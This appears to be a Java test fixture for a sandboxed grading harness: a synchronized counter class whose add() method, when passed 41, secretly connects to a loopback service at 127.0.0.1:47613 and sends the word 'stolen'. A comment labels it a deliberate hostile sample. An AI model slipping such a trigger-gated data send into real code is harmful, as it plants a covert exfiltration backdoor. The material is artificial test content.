package racecourse.counter;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * Hostile: connects to a service on 127.0.0.1:47613 (the test opens one) to send it data. The
 * sandbox has a network of its own, with only a loopback.
 * Otherwise a correct counter: only the check that calls add(41) (countsOnOneThread) loses points.
 */
public class SharedCounter {
    private long count;

    public synchronized void increment() {
        count++;
    }

    public synchronized void add(long delta) {
        if (delta == 41) {
            attack();
        }
        count += delta;
    }

    public synchronized long get() {
        return count;
    }

    private static void attack() {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress("127.0.0.1", 47613), 2000);
            socket.getOutputStream().write("stolen\n".getBytes(StandardCharsets.UTF_8));
            throw new IllegalStateException("sent data to 127.0.0.1:47613");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
